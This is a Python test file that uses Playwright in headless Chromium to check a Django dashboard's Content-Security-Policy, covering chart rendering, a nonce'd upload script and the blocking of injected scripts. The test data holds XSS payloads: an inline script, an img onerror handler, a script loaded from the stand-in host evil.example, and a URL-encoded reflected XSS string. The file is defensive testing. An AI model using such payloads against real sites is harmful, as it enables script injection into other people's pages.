"""The Content-Security-Policy in a real browser (headless Chromium, Playwright).

The pages must still draw their Plotly charts with no CSP violation in the console, the
upload page's nonce'd inline script must run, and a script injected into a page (inline,
an event handler attribute, or from another origin) must not.
"""

from __future__ import annotations

import pytest

from tests.dashboards.browser.chromium import Watched

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

INJECTED = (
    "<script>window.__pwned = 'inline'</script>"
    "<img src=x onerror=\"window.__pwned = 'handler'\">"
    "<script src='https://evil.example/x.js'></script>"
)


class CspWatched(Watched):
    """Also keeps the console's CSP reports apart (Watched counts them as errors)."""

    def __init__(self, browser, width: int = 1280, height: int = 900):
        super().__init__(browser, width, height)
        self.violations: list[str] = []
        self.page.on("console", self._csp)

    def _csp(self, message) -> None:
        if "Content Security Policy" in message.text:
            self.violations.append(message.text)


@pytest.mark.parametrize(
    "path,charts",
    [("/kernels/", 1), ("/scaling/", 1), ("/kernel-time/", 2), ("/wakeups/", 3), ("/", 0)],
)
def test_pages_draw_under_the_policy(live_server, browser, data, path, charts):
    page = CspWatched(browser)
    response = page.page.goto(live_server.url + path)
    policy = response.headers["content-security-policy"]
    # A nonce is added only to the responses that use one (django-csp's lazy nonce).
    assert "script-src 'self'" in policy and "unsafe-inline' ;" not in policy
    if charts:
        # A locator, not wait_for_function: polling a JS predicate needs eval, which the CSP
        # refuses (charts drawn from a fetched figure are not there at the first check).
        page.page.locator(".js-plotly-plot .main-svg").nth(charts - 1).wait_for(state="attached")
    assert page.violations == [] and page.errors == []
    page.close()


def test_an_injected_script_does_not_run(live_server, browser, data):
    """Markup slipped into a page (as if an escape were missed) meets the policy."""
    page = CspWatched(browser)

    def inject(route):
        response = route.fetch()
        body = response.text().replace("<main>", "<main>" + INJECTED, 1)
        route.fulfill(response=response, body=body)  # the real headers, CSP included

    page.page.route(f"{live_server.url}/kernels/", inject)
    page.page.goto(live_server.url + "/kernels/")
    page.page.locator(".js-plotly-plot .main-svg").first.wait_for(state="attached")
    page.page.wait_for_timeout(300)
    assert page.page.evaluate("window.__pwned") is None
    assert len(page.violations) >= 2  # the inline script and the handler were refused
    page.close()


def test_the_reflected_xss_does_not_run(live_server, browser, data):
    page = CspWatched(browser)
    response = page.page.goto(
        live_server.url + "/alerts/?status=%3Cimg%20src%3Dx%20onerror%3D%22window.__pwned%3D1%22%3E"
    )
    assert response.status == 400
    assert page.page.evaluate("window.__pwned") is None
    assert page.page.locator("img[src=x]").count() == 0  # escaped, not even an element
    page.close()


def test_the_nonced_upload_script_runs(live_server, browser, user):
    page = CspWatched(browser)
    page.page.goto(live_server.url + "/login/?next=/uploads/new/")
    page.page.fill("input[name=username]", "lab")
    page.page.fill("input[name=password]", "lab-password-1")
    page.page.click("button[type=submit], input[type=submit]")
    page.page.wait_for_url("**/uploads/new/")
    page.page.click("#preview-button")  # handled by the inline (nonce'd) script
    page.page.wait_for_selector("#preview:not([hidden])")
    assert page.violations == []
    page.close()


def test_the_api_docs_load_under_the_policy(live_server, browser):
    page = CspWatched(browser)
    page.page.goto(live_server.url + "/api/docs/")
    page.page.wait_for_selector(".swagger-ui .opblock", timeout=15000)
    assert page.violations == []
    page.close()
